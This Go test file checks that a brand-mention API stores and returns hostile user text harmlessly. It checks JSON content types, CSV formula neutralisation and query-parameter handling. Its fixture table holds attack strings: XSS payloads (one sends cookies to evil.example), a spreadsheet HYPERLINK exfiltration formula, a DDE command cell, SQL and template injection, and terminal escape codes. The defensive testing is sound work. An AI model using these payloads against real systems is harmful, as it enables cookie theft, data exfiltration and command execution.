package api

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/tingfeng-voc/tingfeng/voc"
)

// hostile is what strangers write when they mean harm, or just write oddly.
var hostile = []struct{ name, text string }{
	{"a script", `<script>alert(document.domain)</script>`},
	{"an image that runs", `<img src=x onerror="fetch('//evil.example/'+document.cookie)">`},
	{"an SVG that runs", `<svg/onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`},
	{"the end of a script block", `</script><script>alert(1)</script>`},
	{"text written backwards", "退款\u202e\u2066)1(trela\u2069\u202c"},
	{"characters nobody sees", "很\u200b好\u200d喝\ufeff\u2060"},
	{"a letter under a hundred accents", "z" + strings.Repeat("\u0301", 100)},
	{"many emoji", strings.Repeat("😡👨‍👩‍👧‍👦", 4000)},
	{"a formula", `=HYPERLINK("http://evil.example?"&A1,"点我")`},
	{"a command", `+cmd|' /C calc'!A0`},
	{"a cell full of quotes and commas", `"a","b"` + "\r\n" + `,,"`},
	{"a terminal that is told to obey", "\x1b[2J\x1b]0;owned\x07"},
	{"line separators", "一\u2028二\u2029三"},
	{"a template", `{{constructor.constructor('alert(1)')()}} ${7*7} %s %n`},
	{"SQL", `'; DROP TABLE mentions; --`},
}

func hostileMentions() []voc.Mention {
	all := make([]voc.Mention, len(hostile))
	for i, row := range hostile {
		p := voc.Post{
			Source: "forum", ExternalID: fmt.Sprint(i), PublishedAt: clock.Add(-1000 * time.Minute), FetchedAt: clock, Kind: voc.PostPost,
			Title: row.text, Text: row.text, Author: voc.Author{Name: "@" + row.name, Followers: voc.Unknown},
			URL: "https://forum.example.com/?q=<script>", Engagement: voc.NoEngagement(),
		}
		p.ID = voc.NewPostID(p.Source, p.ExternalID)
		all[i] = voc.Mention{Post: p, Brand: "qingheng", Analysis: voc.Analysis{Norm: row.text, Sentiment: voc.Negative, Topics: []string{"=话题"}, Version: "t"}}
	}
	return all
}

// What is stored is what was written, and no answer that carries it can be taken for a page.
func TestHostileMentionsTravelHarmlesslyAndUnchanged(t *testing.T) {
	mentions := hostileMentions()
	door := stocked(t, &house{}, mentions)
	w := ask(t, door, "GET", base+"/mentions?limit=200", "", "Accept", "text/html")
	if w.Header().Get("Content-Type") != "application/json" || w.Header().Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("a browser might take this for a page: %v", w.Header())
	}
	got := map[voc.PostID]voc.Mention{}
	for _, m := range read[Mentions](t, w, 200).Items {
		got[m.Post.ID] = m
	}
	for i, row := range hostile {
		if m := got[mentions[i].Post.ID]; m.Post.Text != row.text || m.Post.Title != row.text {
			t.Errorf("%s came back as %q", row.name, cut(m.Post.Text))
		}
	}
	for _, cells := range exported(t, door, "") {
		for i, cell := range cells {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && csvHeader[i] != "score" {
				t.Errorf("cell %s would be run: %q", csvHeader[i], cut(cell))
			}
		}
	}
}

// What is searched for reaches the database as a value and comes back in errors as text.
func TestHostileQuestionsAreOnlyText(t *testing.T) {
	mentions := hostileMentions()
	door := stocked(t, &house{}, mentions)
	for _, row := range hostile {
		for _, field := range []string{"q", "topic", "aspect", "region", "source", "brand", "store", "after"} {
			w := ask(t, door, "GET", base+"/mentions?"+field+"="+url.QueryEscape(row.text), "")
			if w.Code != 200 && w.Code != 422 {
				t.Errorf("%s as %s: %d %s", row.name, field, w.Code, cut(w.Body.String()))
			}
			if kind := w.Header().Get("Content-Type"); kind != "application/json" && kind != "application/problem+json" {
				t.Errorf("%s as %s is answered as %q", row.name, field, kind)
			}
			if !json.Valid(w.Body.Bytes()) || w.Body.Len() > 200_000 && w.Code == 422 {
				t.Errorf("%s as %s: %d bytes", row.name, field, w.Body.Len())
			}
		}
	}
	if got := read[Overview](t, ask(t, door, "GET", base+"/overview", ""), 200); got.Total != len(mentions) {
		t.Errorf("%d mentions are left of %d", got.Total, len(mentions))
	}
}
